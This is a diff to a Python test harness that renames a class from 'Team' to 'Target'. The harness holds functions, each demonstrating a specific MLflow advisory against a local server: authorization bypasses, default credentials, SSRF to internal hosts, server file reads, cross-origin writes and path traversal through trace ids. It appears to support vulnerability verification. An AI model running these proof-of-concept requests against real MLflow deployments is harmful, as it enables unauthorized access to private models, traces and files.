@@ -24,7 +24,7 @@ from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTrace
 CANARY = "written by the test"
 
 # By the first advisory that each demonstrates.
-ON_A_SERVER: dict[str, Callable[["Team", Path], bool]] = {}
+ON_A_SERVER: dict[str, Callable[["Target", Path], bool]] = {}
 IN_THE_CLIENT: dict[str, Callable[[Path], bool]] = {}
 
 
@@ -37,7 +37,7 @@ def _demonstrates(registry: dict, advisory: str):
 
 
 @dataclass
-class Team:
+class Target:
     """A server with basic-auth and, on it, an owner of things and an outsider without permission.
 
     Args:
@@ -98,8 +98,9 @@ class Team:
         return trace_id
 
 
-def _trace(team: Team, trace_id: str) -> dict:
-    place = {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": team.experiment()}}
+def _trace(target: Target, trace_id: str) -> dict:
+    experiment = {"experiment_id": target.experiment()}
+    place = {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": experiment}
     info = {"trace_id": trace_id, "trace_location": place, "state": "OK"}
     return {"trace": {"trace_info": info | {"request_time": "2026-11-23T00:00:00Z"}}}
 
@@ -128,145 +129,145 @@ class _Inner(TCPServer):
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-2652")
-def spans_are_written_without_credentials(team: Team, folder: Path) -> bool:
+def spans_are_written_without_credentials(target: Target, folder: Path) -> bool:
     request = ExportTraceServiceRequest()
     span = request.resource_spans.add().scope_spans.add().spans.add()
     span.trace_id, span.span_id, span.name = secrets.token_bytes(16), secrets.token_bytes(8), "x"
     span.start_time_unix_nano, span.end_time_unix_nano = 1, 2
     headers = {
         "Content-Type": "application/x-protobuf",
-        "x-mlflow-experiment-id": team.experiment(),
+        "x-mlflow-experiment-id": target.experiment(),
     }
-    return team.ask("POST", "/v1/traces", data=request.SerializeToString(), headers=headers).ok
+    return target.ask("POST", "/v1/traces", data=request.SerializeToString(), headers=headers).ok
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-0545")
-def jobs_are_listed_without_credentials(team: Team, folder: Path) -> bool:
-    return team.ask("POST", "/ajax-api/3.0/jobs/search", json={}).ok
+def jobs_are_listed_without_credentials(target: Target, folder: Path) -> bool:
+    return target.ask("POST", "/ajax-api/3.0/jobs/search", json={}).ok
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-2635")
-def the_password_of_the_package_opens_the_server(team: Team, folder: Path) -> bool:
+def the_password_of_the_package_opens_the_server(target: Target, folder: Path) -> bool:
     path = "/api/2.0/mlflow/experiments/get?experiment_id=0"
-    return team.ask("GET", path, ("admin", "password1234")).ok
+    return target.ask("GET", path, ("admin", "password1234")).ok
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-2651")
-def an_outsider_starts_an_upload_into_a_closed_experiment(team: Team, folder: Path) -> bool:
-    artifacts = f"{team.experiment()}/model"
+def an_outsider_starts_an_upload_into_a_closed_experiment(target: Target, folder: Path) -> bool:
+    artifacts = f"{target.experiment()}/model"
     plain = f"/api/2.0/mlflow-artifacts/artifacts/{artifacts}/weights"
-    assert team.ask("PUT", plain, team.outsider, data=b"x").status_code == 403
+    assert target.ask("PUT", plain, target.outsider, data=b"x").status_code == 403
     path = f"/api/2.0/mlflow-artifacts/mpu/create/{artifacts}"
-    return team.ask("POST", path, team.outsider, json={"path": "weights", "num_parts": 1}).ok
+    return target.ask("POST", path, target.outsider, json={"path": "weights", "num_parts": 1}).ok
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2025-15381")
-def an_outsider_reads_a_trace_of_a_closed_experiment(team: Team, folder: Path) -> bool:
-    return team.ask("GET", f"/api/3.0/mlflow/traces/{team.trace()}", team.outsider).ok
+def an_outsider_reads_a_trace_of_a_closed_experiment(target: Target, folder: Path) -> bool:
+    return target.ask("GET", f"/api/3.0/mlflow/traces/{target.trace()}", target.outsider).ok
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-8147")
-def an_outsider_changes_a_trace_of_a_closed_experiment(team: Team, folder: Path) -> bool:
-    path = f"/api/3.0/mlflow/traces/{team.trace()}/tags"
-    return team.ask("PATCH", path, team.outsider, json={"key": "seen", "value": "yes"}).ok
+def an_outsider_changes_a_trace_of_a_closed_experiment(target: Target, folder: Path) -> bool:
+    path = f"/api/3.0/mlflow/traces/{target.trace()}/tags"
+    return target.ask("PATCH", path, target.outsider, json={"key": "seen", "value": "yes"}).ok
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-2734")
-def an_outsider_finds_versions_of_a_closed_model(team: Team, folder: Path) -> bool:
+def an_outsider_finds_versions_of_a_closed_model(target: Target, folder: Path) -> bool:
     name, models = f"closed-{secrets.token_hex(4)}", "/api/2.0/mlflow/registered-models"
-    team.done("POST", f"{models}/create", team.owner, json={"name": name})
-    closed = {"name": name, "username": team.outsider[0], "permission": "NO_PERMISSIONS"}
-    team.done("POST", f"{models}/permissions/create", team.owner, json=closed)
-    assert team.ask("GET", f"{models}/get?name={name}", team.outsider).status_code == 403
+    target.done("POST", f"{models}/create", target.owner, json={"name": name})
+    closed = {"name": name, "username": target.outsider[0], "permission": "NO_PERMISSIONS"}
+    target.done("POST", f"{models}/permissions/create", target.owner, json=closed)
+    assert target.ask("GET", f"{models}/get?name={name}", target.outsider).status_code == 403
     version = {"name": name, "source": "s3://bucket/model"}
-    team.done("POST", "/api/2.0/mlflow/model-versions/create", team.owner, json=version)
+    target.done("POST", "/api/2.0/mlflow/model-versions/create", target.owner, json=version)
     search = f"/api/2.0/mlflow/model-versions/search?filter=name='{name}'"
-    return name in team.ask("GET", search, team.outsider).text
+    return name in target.ask("GET", search, target.outsider).text
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-33866")
-def an_outsider_downloads_a_file_of_a_closed_model(team: Team, folder: Path) -> bool:
-    experiment, models = team.experiment(), "/mlflow/logged-models"
+def an_outsider_downloads_a_file_of_a_closed_model(target: Target, folder: Path) -> bool:
+    experiment, models = target.experiment(), "/mlflow/logged-models"
     body = {"experiment_id": experiment, "name": "model"}
-    made = team.done("POST", f"/api/2.0{models}", team.owner, json=body)["model"]["info"]
+    made = target.done("POST", f"/api/2.0{models}", target.owner, json=body)["model"]["info"]
     inner = made["artifact_uri"].partition(":/")[2].lstrip("/")
     upload = f"/api/2.0/mlflow-artifacts/artifacts/{inner}/MLmodel"
-    assert team.ask("PUT", upload, team.owner, data=CANARY).ok
+    assert target.ask("PUT", upload, target.owner, data=CANARY).ok
     model = made["model_id"]
-    assert team.ask("GET", f"/api/2.0{models}/{model}", team.outsider).status_code == 403
+    assert target.ask("GET", f"/api/2.0{models}/{model}", target.outsider).status_code == 403
     path = f"/ajax-api/2.0{models}/{model}/artifacts/files?artifact_file_path=MLmodel"
-    return team.ask("GET", path, team.outsider).text == CANARY
+    return target.ask("GET", path, target.outsider).text == CANARY
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2025-14297")
-def an_outsider_downloads_an_artifact_of_a_closed_run(team: Team, folder: Path) -> bool:
-    run = team.run(team.experiment(), team.owner)
+def an_outsider_downloads_an_artifact_of_a_closed_run(target: Target, folder: Path) -> bool:
+    run = target.run(target.experiment(), target.owner)
     inner = run["artifact_uri"].partition(":/")[2].lstrip("/")
     upload = f"/api/2.0/mlflow-artifacts/artifacts/{inner}/note.txt"
-    assert team.ask("PUT", upload, team.owner, data=CANARY).ok
-    assert team.ask("GET", upload, team.outsider).status_code == 403
+    assert target.ask("PUT", upload, target.owner, data=CANARY).ok
+    assert target.ask("GET", upload, target.outsider).status_code == 403
     path = f"/get-artifact?run_id={run['run_id']}&path=note.txt"
-    return team.ask("GET", path, team.outsider).text == CANARY
+    return target.ask("GET", path, target.outsider).text == CANARY
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-2614")
-def a_user_reads_a_file_of_the_servers_machine(team: Team, folder: Path) -> bool:
+def a_user_reads_a_file_of_the_servers_machine(target: Target, folder: Path) -> bool:
     (folder / "canary.txt").write_text(CANARY)
     name = f"prompt-{secrets.token_hex(4)}"
     models, versions = "/api/2.0/mlflow/registered-models", "/api/2.0/mlflow/model-versions"
-    team.done("POST", f"{models}/create", team.outsider, json={"name": name})
+    target.done("POST", f"{models}/create", target.outsider, json={"name": name})
     tags = [{"key": "mlflow.prompt.is_prompt", "value": "true"}]
     body = {"name": name, "source": folder.as_uri(), "tags": tags}
-    team.ask("POST", f"{versions}/create", team.outsider, json=body)
+    target.ask("POST", f"{versions}/create", target.outsider, json=body)
     path = f"/model-versions/get-artifact?name={name}&version=1&path=canary.txt"
-    return team.ask("GET", path, team.outsider).text == CANARY
+    return target.ask("GET", path, target.outsider).text == CANARY
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-2393")
-def a_webhook_reaches_a_host_of_the_inner_network(team: Team, folder: Path) -> bool:
+def a_webhook_reaches_a_host_of_the_inner_network(target: Target, folder: Path) -> bool:
     with _listener() as inner:
         body = {
             "name": f"hook-{secrets.token_hex(4)}",
             "url": f"https://127.0.0.1:{inner.server_address[1]}/",
             "events": [{"entity": "REGISTERED_MODEL", "action": "CREATED"}],
         }
-        made = team.ask("POST", "/api/2.0/mlflow/webhooks", team.outsider, json=body)
+        made = target.ask("POST", "/api/2.0/mlflow/webhooks", target.outsider, json=body)
         if made.ok:
             hook = f"/api/2.0/mlflow/webhooks/{made.json()['webhook']['webhook_id']}"
-            team.ask("POST", f"{hook}/test", team.outsider, json={})
-            team.ask("DELETE", hook, team.outsider)
+            target.ask("POST", f"{hook}/test", target.outsider, json={})
+            target.ask("DELETE", hook, target.outsider)
         return inner.reached
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-118628")
-def an_artifact_location_reaches_a_host_of_the_inner_network(team: Team, folder: Path) -> bool:
+def an_artifact_location_reaches_a_host_of_the_inner_network(target: Target, folder: Path) -> bool:
     with _listener() as inner:
         body = {
             "name": f"inner-{secrets.token_hex(4)}",
             "artifact_location": f"ftp://127.0.0.1:{inner.server_address[1]}/",
         }
         path = "/api/2.0/mlflow/experiments/create"
-        made = team.ask("POST", path, team.outsider, json=body)
+        made = target.ask("POST", path, target.outsider, json=body)
         if made.ok:
-            run = team.run(made.json()["experiment_id"], team.outsider)
-            team.ask("GET", f"/get-artifact?run_id={run['run_id']}&path=x", team.outsider)
+            run = target.run(made.json()["experiment_id"], target.outsider)
+            target.ask("GET", f"/get-artifact?run_id={run['run_id']}&path=x", target.outsider)
         return inner.reached
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-2611")
-def a_page_of_another_origin_may_write(team: Team, folder: Path) -> bool:
+def a_page_of_another_origin_may_write(target: Target, folder: Path) -> bool:
     headers = {"Origin": "https://elsewhere.example"}
     body = {"name": f"elsewhere-{secrets.token_hex(4)}"}
     path = "/ajax-api/2.0/mlflow/experiments/create"
-    return team.ask("POST", path, team.outsider, json=body, headers=headers).ok
+    return target.ask("POST", path, target.outsider, json=body, headers=headers).ok
 
 
 @_demonstrates(ON_A_SERVER, "CVE-2026-53995")
-def a_trace_id_writes_outside_its_folder(team: Team, folder: Path) -> bool:
-    target = folder / "outside"
+def a_trace_id_writes_outside_its_folder(target: Target, folder: Path) -> bool:
+    outside = folder / "outside"
     # The file store joins the id to a path of its own; an absolute path replaces it.
-    team.ask("POST", "/api/3.0/mlflow/traces", team.owner, json=_trace(team, str(target)))
-    return target.exists()
+    target.ask("POST", "/api/3.0/mlflow/traces", target.owner, json=_trace(target, str(outside)))
+    return outside.exists()
 
 
 @_demonstrates(IN_THE_CLIENT, "CVE-2026-4137")
